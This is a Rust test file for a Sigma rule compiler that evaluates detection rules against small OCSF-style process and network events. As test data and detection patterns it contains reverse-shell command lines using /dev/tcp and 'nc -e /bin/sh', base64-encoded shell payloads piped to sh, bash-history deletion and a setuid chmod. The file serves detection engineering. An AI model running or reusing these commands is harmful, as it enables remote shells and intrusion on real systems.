//! Tests of [`super::compile`] and the field compilation in `field.rs`: every modifier, wildcards, conditions, keywords and null,
//! evaluated against small OCSF-shaped documents.

use std::collections::HashMap;

use serde_json::{Value as Json, json};
use vigil_ocsf::fieldmap::{FieldMap, LogSource};

use super::*;
use crate::sigma::value;

fn test_map() -> FieldMap {
    let fields = [
        ("Image", vec!["process.file.path"]),
        ("CommandLine", vec!["process.cmd_line"]),
        ("User", vec!["process.user.name"]),
        ("ParentImage", vec!["actor.process.file.path"]),
        ("LogonId", vec!["process.auid"]),
        ("DestinationPort", vec!["dst_endpoint.port"]),
        ("DestinationIp", vec!["dst_endpoint.ip"]),
        ("Either", vec!["a.x", "a.y"]),
    ];
    FieldMap {
        logsource: LogSource::default(),
        view: None,
        closed: false,
        class_uid: 1007,
        activity_id: Some(1),
        fields: fields
            .into_iter()
            .map(|(k, v)| (k.to_owned(), v.into_iter().map(str::to_owned).collect()))
            .collect::<HashMap<_, _>>(),
        exclude: HashMap::new(),
        include: HashMap::new(),
        constants: HashMap::from([(
            "type".to_owned(),
            vec!["EXECVE".to_owned(), "SYSCALL".to_owned()],
        )]),
    }
}

fn try_compile(yaml: &str) -> Result<Detection, CompileError> {
    let map = test_map();
    let mut resolver = Resolver::new(Some(&map));
    let detection: Mapping = serde_yaml::from_str(yaml).expect("test YAML");
    let compiled = compile(&detection, &mut resolver);
    if let Some(field) = resolver.missing() {
        panic!("unmapped field {field}");
    }
    compiled
}

fn det(yaml: &str) -> Detection {
    try_compile(yaml).unwrap_or_else(|e| panic!("{yaml}\n=> {e}"))
}

fn proc_event(image: &str, cmd: &str) -> Json {
    json!({"process": {"file": {"path": image}, "cmd_line": cmd, "user": {"name": "alice"}}})
}

fn cmd(c: &str) -> Json {
    proc_event("/usr/bin/x", c)
}

#[test]
fn plain_values_match_whole_field_ignoring_case() {
    let d = det("sel: {Image: /usr/bin/Base64}\ncondition: sel");
    assert!(d.is_match(&proc_event("/USR/BIN/base64", "")));
    assert!(!d.is_match(&proc_event("/usr/bin/base64x", "")));
    assert!(!d.is_match(&json!({})));
}

#[test]
fn wildcards_and_escapes_in_values() {
    let d = det(r"sel: {CommandLine: 'rm *sh_histor?'}
condition: sel");
    assert!(d.is_match(&cmd("rm /root/.bash_history")));
    assert!(!d.is_match(&cmd("rm /root/.bash_histories")));
    let d = det(r"sel: {CommandLine: 'echo \*'}
condition: sel");
    assert!(d.is_match(&cmd("echo *")));
    assert!(!d.is_match(&cmd("echo x")));
    let d = det(r"sel: {CommandLine: 'a\\*'}
condition: sel");
    assert!(d.is_match(&cmd(r"a\anything")));
    assert!(!d.is_match(&cmd("anything")));
}

#[test]
fn contains_startswith_endswith() {
    let d = det("sel:\n  CommandLine|contains: '-D'\ncondition: sel");
    assert!(d.is_match(&cmd("base64 -d x")));
    let d = det("sel:\n  CommandLine|startswith: 'sudo '\ncondition: sel");
    assert!(d.is_match(&cmd("SUDO id")));
    assert!(!d.is_match(&cmd("x sudo id")));
    let d = det("sel:\n  Image|endswith: [/nc, /ncat]\ncondition: sel");
    assert!(d.is_match(&proc_event("/bin/ncat", "")));
    assert!(!d.is_match(&proc_event("/bin/ncatx", "")));
    // Wildcards inside a contains value still work.
    let d = det("sel:\n  CommandLine|contains: 'chown root*chmod 4777 '\ncondition: sel");
    assert!(d.is_match(&cmd("x; chown root f; chmod 4777 f")));
}

#[test]
fn value_lists_are_or_unless_all() {
    let any = det("sel:\n  CommandLine|contains: [s_client, -quiet]\ncondition: sel");
    let all = det("sel:\n  CommandLine|contains|all: [s_client, -quiet]\ncondition: sel");
    assert!(any.is_match(&cmd("openssl s_client")));
    assert!(!all.is_match(&cmd("openssl s_client")));
    assert!(all.is_match(&cmd("openssl s_client -quiet")));
}

#[test]
fn cased_makes_case_significant() {
    let d = det("sel:\n  CommandLine|contains|cased: ' -O '\ncondition: sel");
    assert!(d.is_match(&cmd("wget -O x")));
    assert!(!d.is_match(&cmd("wget -o x")));
}

#[test]
fn re_is_case_sensitive_and_takes_flags() {
    let d = det(r"sel: {CommandLine|re: '\s-O\s'}
condition: sel");
    assert!(d.is_match(&cmd("wget -O /tmp/x")));
    assert!(!d.is_match(&cmd("wget -o /tmp/x")));
    let d = det("sel: {CommandLine|re|i: '^WGET'}\ncondition: sel");
    assert!(d.is_match(&cmd("wget x")));
    let d = det("sel: {CommandLine|re|m: '^b$'}\ncondition: sel");
    assert!(d.is_match(&cmd("a\nb\nc")));
    let d = det("sel: {CommandLine|re|s: 'a.b'}\ncondition: sel");
    assert!(d.is_match(&cmd("a\nb")));
    let d = det("sel: {CommandLine|re: '(.){200,}'}\ncondition: sel");
    assert!(d.is_match(&cmd(&"x".repeat(200))));
    assert!(!d.is_match(&cmd(&"x".repeat(199))));
}

#[test]
fn unsupported_regex_features_are_reported_not_panicked() {
    let err = try_compile("sel: {CommandLine|re: '(?<=a)b'}\ncondition: sel").unwrap_err();
    assert!(!err.is_malformed(), "{err}");
    assert!(err.to_string().contains("regular expression"), "{err}");
}

#[test]
fn exists_and_null() {
    let exists = det("sel: {User|exists: true}\ncondition: sel");
    let absent = det("sel: {User|exists: false}\ncondition: sel");
    let null = det("sel: {User: null}\ncondition: sel");
    let empty = det("sel: {User: ''}\ncondition: sel");
    let with_user = proc_event("/x", "x");
    let without = json!({"process": {"cmd_line": "x"}});
    let null_user = json!({"process": {"user": {"name": null}}});
    let empty_user = json!({"process": {"user": {"name": ""}}});
    assert!(exists.is_match(&with_user) && !exists.is_match(&without));
    assert!(absent.is_match(&without) && !absent.is_match(&with_user));
    assert!(null.is_match(&without) && null.is_match(&null_user));
    assert!(!null.is_match(&with_user) && !null.is_match(&empty_user));
    assert!(empty.is_match(&empty_user) && !empty.is_match(&without));
    // `not null` is spelled as a negated selection.
    let not_null = det("sel: {User: null}\ncondition: not sel");
    assert!(not_null.is_match(&with_user) && !not_null.is_match(&without));
}

#[test]
fn numbers_match_numbers_and_strings() {
    let d = det("sel: {LogonId: 0}\ncondition: sel");
    assert!(d.is_match(&json!({"process": {"auid": 0}})));
    assert!(d.is_match(&json!({"process": {"auid": "0"}})));
    assert!(!d.is_match(&json!({"process": {"auid": 4294967295u32}})));
    let d = det("sel: {LogonId: '0'}\ncondition: sel");
    assert!(d.is_match(&json!({"process": {"auid": 0}})));
}

#[test]
fn numeric_comparisons_and_neq() {
    let port = |p: i64| json!({"dst_endpoint": {"port": p}});
    let d = det("sel: {DestinationPort|lt: 1024}\ncondition: sel");
    assert!(d.is_match(&port(22)) && !d.is_match(&port(1024)));
    let d = det("sel: {DestinationPort|gte: 1024}\ncondition: sel");
    assert!(d.is_match(&port(1024)) && !d.is_match(&port(22)));
    let d = det("sel: {DestinationPort|lte: 22}\ncondition: sel");
    assert!(d.is_match(&port(22)) && !d.is_match(&port(23)));
    let d = det("sel: {DestinationPort|gt: 22}\ncondition: sel");
    assert!(d.is_match(&port(23)) && !d.is_match(&port(22)));
    let d = det("sel: {User|neq: [root, daemon]}\ncondition: sel");
    assert!(d.is_match(&proc_event("/x", "")));
    assert!(!d.is_match(&json!({"process": {"user": {"name": "ROOT"}}})));
    let err = try_compile("sel: {DestinationPort|lt: abc}\ncondition: sel").unwrap_err();
    assert!(err.is_malformed());
}

#[test]
fn cidr() {
    let d = det(
        "sel: {DestinationIp|cidr: [10.0.0.0/8, '192.168.0.0/16', 'fd00::/8']}\ncondition: sel",
    );
    let ip = |a: &str| json!({"dst_endpoint": {"ip": a}});
    assert!(d.is_match(&ip("10.20.30.40")));
    assert!(d.is_match(&ip("192.168.1.1")));
    assert!(d.is_match(&ip("fd12::1")));
    assert!(!d.is_match(&ip("8.8.8.8")));
    assert!(try_compile("sel: {DestinationIp|cidr: 10.0.0.0/33}\ncondition: sel").is_err());
}

#[test]
fn windash_matches_every_dash_spelling() {
    let d = det("sel:\n  CommandLine|windash|contains: ' -exec '\ncondition: sel");
    for spelling in [
        " -exec ",
        " /exec ",
        " \u{2013}exec ",
        " \u{2014}exec ",
        " \u{2015}exec ",
    ] {
        assert!(
            d.is_match(&cmd(&format!("find .{spelling}x"))),
            "{spelling}"
        );
    }
    assert!(!d.is_match(&cmd("find . exec x")));
}

#[test]
fn base64_and_base64offset() {
    let d = det("sel:\n  CommandLine|base64|contains: 'bash -i'\ncondition: sel");
    assert!(d.is_match(&cmd(&format!(
        "echo {} | base64 -d",
        value::base64(b"bash -i")
    ))));
    assert!(!d.is_match(&cmd("bash -i")));
    let d = det("sel:\n  CommandLine|base64offset|contains: '/dev/tcp/'\ncondition: sel");
    for prefix in ["", "a", "ab", "bash -i >& "] {
        let payload = value::base64(format!("{prefix}/dev/tcp/10.0.0.1/4444").as_bytes());
        assert!(
            d.is_match(&cmd(&format!("echo {payload} | base64 -d | sh"))),
            "{prefix:?}"
        );
    }
    let d = det("sel:\n  CommandLine|wide|base64offset|contains: 'cmd'\ncondition: sel");
    let payload = value::base64(&value::utf16_bytes("start cmd /c", value::Utf16::Le));
    assert!(d.is_match(&cmd(&format!("powershell -enc {payload}"))));
    let err = try_compile("sel: {CommandLine|base64: 'a*b'}\ncondition: sel").unwrap_err();
    assert!(!err.is_malformed(), "{err}");
}

#[test]
fn fieldref_compares_with_another_field() {
    let d = det("sel: {Image|fieldref: ParentImage}\ncondition: sel");
    assert!(d.is_match(&json!({"process": {"file": {"path": "/bin/sh"}}, "actor": {"process": {"file": {"path": "/BIN/SH"}}}})));
    assert!(!d.is_match(&json!({"process": {"file": {"path": "/bin/sh"}}, "actor": {"process": {"file": {"path": "/bin/bash"}}}})));
}

#[test]
fn a_field_with_several_paths_matches_on_any() {
    let d = det("sel: {Either: x}\ncondition: sel");
    assert!(d.is_match(&json!({"a": {"y": "X"}})));
    assert!(d.is_match(&json!({"a": {"x": "x", "y": "z"}})));
    assert!(!d.is_match(&json!({"a": {"x": "z"}})));
}

#[test]
fn maps_are_and_lists_of_maps_are_or() {
    let and = det("sel: {Image|endswith: /base64, CommandLine|contains: -d}\ncondition: sel");
    assert!(and.is_match(&proc_event("/usr/bin/base64", "base64 -d payload")));
    assert!(!and.is_match(&proc_event("/usr/bin/base64", "base64 payload")));
    assert!(!and.is_match(&proc_event("/usr/bin/cat", "cat -d")));
    let or = det("sel:\n  - Image|endswith: /wget\n  - CommandLine|contains: curl\ncondition: sel");
    assert!(or.is_match(&proc_event("/usr/bin/wget", "")));
    assert!(or.is_match(&proc_event("/x", "curl x")));
    assert!(!or.is_match(&proc_event("/x", "x")));
}

#[test]
fn condition_precedence_not_and_or() {
    let yaml = "a: {User: alice}\nb: {Image: /b}\nc: {CommandLine: c}\ncondition: a or b and not c";
    let d = det(yaml);
    let ev = |user: &str, image: &str, cmd: &str| json!({"process": {"file": {"path": image}, "cmd_line": cmd, "user": {"name": user}}});
    assert!(d.is_match(&ev("alice", "/x", "c")), "a alone suffices");
    assert!(d.is_match(&ev("bob", "/b", "x")), "b and not c");
    assert!(!d.is_match(&ev("bob", "/b", "c")), "not binds to c only");
    assert!(!d.is_match(&ev("bob", "/x", "x")));
    let grouped =
        det("a: {User: alice}\nb: {Image: /b}\nc: {CommandLine: c}\ncondition: (a or b) and not c");
    assert!(!grouped.is_match(&ev("alice", "/x", "c")));
}

#[test]
fn one_of_all_of_and_them() {
    let yaml = |cond: &str| {
        format!(
            "sel_img: {{Image|endswith: /nc}}\nsel_cli: {{CommandLine|contains: ' -e '}}\n_aux: {{User: nobody}}\ncondition: {cond}"
        )
    };
    let both = proc_event("/bin/nc", "nc -e /bin/sh");
    let img_only = proc_event("/bin/nc", "nc host");
    let neither = proc_event("/bin/ls", "ls");
    let one = det(&yaml("1 of sel_*"));
    assert!(one.is_match(&both) && one.is_match(&img_only) && !one.is_match(&neither));
    let all = det(&yaml("all of sel_*"));
    assert!(all.is_match(&both) && !all.is_match(&img_only));
    // `them` leaves out identifiers starting with `_`.
    let all_them = det(&yaml("all of them"));
    assert!(all_them.is_match(&both));
    let one_them = det(&yaml("1 of them"));
    assert!(!one_them.is_match(&json!({"process": {"user": {"name": "nobody"}}})));
    let not_one = det(&yaml("sel_img and not 1 of sel_c*"));
    assert!(not_one.is_match(&img_only) && !not_one.is_match(&both));
}

#[test]
fn condition_lists_are_or() {
    let d = det("a: {User: alice}\nb: {Image: /b}\ncondition: [a, b]");
    assert!(d.is_match(&json!({"process": {"file": {"path": "/b"}}})));
    assert!(d.is_match(&proc_event("/x", "")));
}

#[test]
fn keyword_searches_look_at_mapped_text_attributes() {
    let d = det("keywords: ['/dev/tcp/', 'MKFIFO']\ncondition: keywords");
    assert!(d.is_match(&cmd("bash -i >& /dev/tcp/1.2.3.4/80")));
    assert!(d.is_match(&proc_event("/usr/bin/mkfifo", "x")));
    assert!(!d.is_match(&cmd("echo hi")));
    // Only mapped text attributes are searched.
    assert!(!d.is_match(&json!({"metadata": {"log_name": "/dev/tcp/"}})));
    let pid = det("keywords: ['42']\ncondition: keywords");
    assert!(!pid.is_match(&json!({"process": {"auid": 42}})));
    assert!(pid.is_match(&json!({"process": {"user": {"name": "u42"}}})));
    let all = det("keywords:\n  '|all': ['bash -c /bin/bash', '&/dev/tcp/']\ncondition: keywords");
    assert!(all.is_match(&cmd("bash -c /bin/bash -i >&/dev/tcp/x")));
    assert!(!all.is_match(&cmd("bash -c /bin/bash")));
    let single = det("kw: 'Trojan*FOUND'\ncondition: kw");
    assert!(single.is_match(&cmd("scan: Trojan.X FOUND")));
}

#[test]
fn structural_errors_are_malformed() {
    for (yaml, want) in [
        ("sel: {Image: x}", "no `condition`"),
        (
            "sel: {Image: x}\ncondition: nope",
            "unknown search identifier `nope`",
        ),
        (
            "sel: {Image: x}\ncondition: 1 of filter_*",
            "selects no search identifier",
        ),
        ("sel: {Image: x}\ncondition: sel and", "condition"),
        ("sel: {}\ncondition: sel", "is empty"),
        (
            "sel: {Image: {a: b}}\ncondition: sel",
            "cannot be a mapping",
        ),
        ("sel: {Image: []}\ncondition: sel", "empty value list"),
        (
            "sel: {Image|exists: yes please}\ncondition: sel",
            "`exists` takes",
        ),
        (
            "sel: {Image|contains: null}\ncondition: sel",
            "`null` cannot take",
        ),
        (
            "sel: {Image|re|contains: x}\ncondition: sel",
            "cannot be combined",
        ),
        ("sel: ~\ncondition: sel", "must be a mapping"),
        ("sel: {Image: x}\ncondition: 3", "must be a string"),
    ] {
        let err = try_compile(yaml).map(|_| ()).unwrap_err();
        assert!(err.is_malformed(), "{yaml:?}: {err}");
        assert!(err.to_string().contains(want), "{yaml:?}: {err}");
    }
}

#[test]
fn unsupported_features_name_themselves() {
    for (yaml, want) in [
        (
            "sel: {Image|hour: 3}\ncondition: sel",
            "unsupported modifier `hour`",
        ),
        (
            "sel: {Image: x}\ncondition: sel | count() > 3",
            "correlation",
        ),
        (
            "sel: {Image|windash: '-a -b -c -d -e'}\ncondition: sel",
            "windash",
        ),
    ] {
        let err = try_compile(yaml).map(|_| ()).unwrap_err();
        assert!(!err.is_malformed(), "{yaml:?}: {err}");
        assert!(err.to_string().contains(want), "{yaml:?}: {err}");
    }
}

#[test]
fn malformed_wins_over_unsupported() {
    let yaml = "a: {Image|hour: 3}\nb: {Image: {x: y}}\ncondition: a or b";
    assert!(try_compile(yaml).unwrap_err().is_malformed());
}

#[test]
fn resolver_records_the_first_unmapped_field() {
    let map = test_map();
    let mut resolver = Resolver::new(Some(&map));
    let detection: Mapping =
        serde_yaml::from_str("sel: {Image: x, TargetFilename: y, Other: z}\ncondition: sel")
            .unwrap();
    assert!(compile(&detection, &mut resolver).is_ok());
    assert_eq!(resolver.missing(), Some("TargetFilename"));
    // Without a map every field is accepted, so the structure can still be checked.
    let mut none = Resolver::new(None);
    assert!(compile(&detection, &mut none).is_ok());
    assert_eq!(none.missing(), None);
}

#[test]
fn constant_fields_are_decided_at_compile_time() {
    // `type` is EXECVE or SYSCALL for every event of the map's logsource (case-insensitively,
    // as any Sigma string); the rest of the selection still reads the event.
    let d = det("sel: {type: execve, Image: /usr/bin/x}\ncondition: sel");
    assert!(d.is_match(&cmd("anything")));
    assert!(!d.is_match(&proc_event("/usr/bin/y", "")));
    let d = det("sel: {type: PATH, Image: /usr/bin/x}\ncondition: sel");
    assert!(
        !d.is_match(&cmd("anything")),
        "no event of the logsource is a PATH record"
    );
    let d = det("sel: {type: PATH}\ncondition: not sel");
    assert!(d.is_match(&json!({})));
    let d = det("sel: {type|startswith: SYS}\ncondition: sel");
    assert!(d.is_match(&json!({})));
}
